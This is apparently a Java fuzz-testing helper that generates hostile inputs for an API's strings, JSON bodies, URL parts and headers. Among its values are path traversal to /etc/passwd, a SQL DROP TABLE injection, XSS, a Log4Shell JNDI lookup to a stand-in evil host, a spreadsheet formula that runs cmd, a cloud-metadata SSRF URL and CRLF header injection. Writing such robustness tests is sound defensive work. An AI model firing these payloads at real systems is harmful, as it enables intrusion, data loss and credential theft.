package dev.handover.system.operation;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/** Values that nobody sends who means well. */
final class Hostile {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\u0001",
            "\u001b[2J",
            "\u001f\u007f",
            "\u0085\u2028\u2029",
            "\ud800",
            "\udfff",
            "a\ud800b",
            "\ud83d\ude00",
            "\u202e\u2066evil",
            "\ufeff",
            "\uffff",
            "e\u0301\u0301\u0301",
            "\ufdfa".repeat(300),
            "null",
            "[]",
            "{}",
            "true",
            "undefined",
            "NaN",
            "Infinity",
            "-0",
            "-1",
            "0",
            "00",
            "0.000000000000000000000000000001",
            "1e5",
            "1e309",
            "1E-400",
            "1e999999999",
            "0x10",
            "1_000",
            "1,5",
            "\u0663",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "99999999999999999999999999999999999999",
            "../../etc/passwd",
            "..%2f..%2f",
            "' OR '1'='1",
            "'; DROP TABLE member; --",
            "\\",
            "\"",
            "%",
            "%00",
            "_%",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "{#each}{/each}",
            "${jndi:ldap://evil.invalid/a}",
            "=cmd|' /C calc'!A0",
            "+1",
            "(a+)+$",
            "http://169.254.169.254/latest/meta-data",
            "javascript:alert(1)",
            "//evil.example",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "0195c0de-0001-7000-8000-00000000000g",
            "0195c0de000170008000000000000001",
            "1-1-1-1-1",
            "2026-02-30",
            "24:00",
            "-000001-01-01T00:00:00Z",
            "0000-00-00",
            "-0001-01-01",
            "9999-12-31",
            "+999999999-12-31",
            "-999999999-01-01",
            "2026-03-29T02:30:00",
            "+999999999-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "2026-12-31T23:59:60Z",
            "2026-03-02T09:00:00+18:01",
            "2026-03-02T24:00:00Z",
            "Europe/Nowhere",
            "Mars/Olympus",
            "UTC+99:99",
            "GMT0",
            "SystemV/PST8PDT",
            "+18:00",
            "\u0130stanbul",
            "P999999999Y",
            "XXX",
            "XTS",
            "eur");

    private final Random random;

    Hostile(Random random) {
        this.random = random;
    }

    String text() {
        return switch (random.nextInt(12)) {
            case 0 -> "x".repeat(1 + random.nextInt(3_000));
            case 1 -> cursor();
            case 2 ->
                random.ints(1 + random.nextInt(20), 0, 0x10000)
                        .collect(StringBuilder::new, (text, c) -> text.append((char) c), StringBuilder::append)
                        .toString();
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    /** What a cursor looks like to whoever forges one. */
    private String cursor() {
        byte[] bytes = new byte[random.nextInt(60)];
        random.nextBytes(bytes);
        List<String> insides = List.of(
                new String(bytes, StandardCharsets.ISO_8859_1),
                "not a cursor",
                "{\"id\":\"x\"}",
                "[]",
                "null",
                "1|2026-03-02T09:00:00Z|0195c0de-0001-7000-8000-000000000001",
                "9999999999999|" + "a".repeat(40),
                "\u0000\u0000",
                "+999999999-12-31T23:59:59Z|0195c0de-0001-7000-8000-000000000001");
        byte[] inside = insides.get(random.nextInt(insides.size())).getBytes(StandardCharsets.ISO_8859_1);
        return random.nextBoolean()
                ? Base64.getUrlEncoder().withoutPadding().encodeToString(inside)
                : Base64.getEncoder().encodeToString(inside);
    }

    JsonNode json() {
        return switch (random.nextInt(14)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(random.nextBoolean());
            case 2 -> JSON.numberNode(random.nextInt(5) - 2);
            case 3 -> JSON.numberNode(BigInteger.TWO.pow(31 + random.nextInt(200)));
            case 4 -> JSON.numberNode(new BigDecimal(random.nextBoolean() ? "1e999999999" : "-1e-999999999"));
            case 5 -> JSON.numberNode(random.nextDouble());
            case 6 -> random.nextBoolean() ? JSON.arrayNode() : JSON.objectNode();
            case 7 -> deep(2 + random.nextInt(1_500));
            case 8 -> wide();
            default -> JSON.textNode(text());
        };
    }

    private JsonNode deep(int levels) {
        JsonNode inner = JSON.textNode("bottom");
        boolean arrays = random.nextBoolean();
        for (int i = 0; i < levels; i++) {
            inner = arrays ? JSON.arrayNode().add(inner) : JSON.objectNode().set("a", inner);
        }
        return inner;
    }

    private JsonNode wide() {
        int size = 1 + random.nextInt(2_000);
        if (random.nextBoolean()) {
            ArrayNode array = JSON.arrayNode();
            for (int i = 0; i < size; i++) {
                array.add(i);
            }
            return array;
        }
        ObjectNode object = JSON.objectNode();
        for (int i = 0; i < size; i++) {
            object.put("f" + i, i);
        }
        return object;
    }

    /** A part of an address as it goes over the wire, encoded or as wrong as it is. */
    String encoded() {
        List<String> raw = List.of(
                "%00",
                "%0a",
                "%0d%0aX-Evil:%201",
                "%ff",
                "%c0%80",
                "%ed%a0%80",
                "%zz",
                "%",
                "%2",
                "%25%30%30",
                "%2f",
                "%5c",
                "..",
                ".",
                "%2e%2e",
                ";a=b",
                "a;b=c",
                "*",
                "|",
                "^",
                "\\",
                "{id}",
                "+",
                "%20",
                "~",
                "@",
                "$");
        return random.nextInt(3) == 0
                ? raw.get(random.nextInt(raw.size()))
                : Requests.encoded(text().replace("\ud800", "\ufffd").replace("\udfff", "\ufffd"));
    }

    /** A value of a header, of characters that headers may have. */
    String header(String name) {
        List<String> values = new ArrayList<>(List.of(
                "",
                "garbage",
                "*",
                "\"",
                "\"\"",
                "\"v1\"",
                "W/\"v1\"",
                "\"v1\", \"v2\"",
                "\"v99999999999999999999\"",
                "\"1\"",
                "1",
                "-1",
                "a b",
                "\u00e9\u00ff",
                "x".repeat(300),
                "99999999999999999999",
                "${x}",
                "a,b;c=d"));
        switch (name) {
            case "Content-Type" ->
                values.addAll(List.of(
                        "text/plain",
                        "application/xml",
                        "application/json; charset=utf-16",
                        "application/json;charset=garbage",
                        "application/json, text/plain",
                        "multipart/form-data",
                        "multipart/form-data; boundary=",
                        "multipart/form-data; boundary=x",
                        "application/x-ndjson",
                        "application/x-www-form-urlencoded",
                        "application/merge-patch+json",
                        "application/json-patch+json",
                        "application/octet-stream",
                        "application/gzip",
                        "text/csv",
                        "application/zip",
                        "/",
                        "application/",
                        "*/*",
                        "application/json;;"));
            case "Accept" ->
                values.addAll(List.of(
                        "application/x-foo",
                        "text/html",
                        "*/*;q=0",
                        "application/json;q=abc",
                        "image/svg+xml",
                        "text/event-stream",
                        "application/json;q=0.1, text/plain;q=0.9",
                        "application/*",
                        ",",
                        ";"));
            case "Content-Encoding", "Accept-Encoding" ->
                values.addAll(List.of("gzip", "br", "deflate", "gzip, gzip", "identity;q=0"));
            case "Host" -> values.addAll(List.of("evil.example", "localhost:99999", "[::1]", "a/b", "user@localhost"));
            case "Origin" -> values.addAll(List.of("null", "https://evil.example", "http://127.0.0.1", "file://"));
            default -> {}
        }
        return values.get(random.nextInt(values.size()));
    }
}
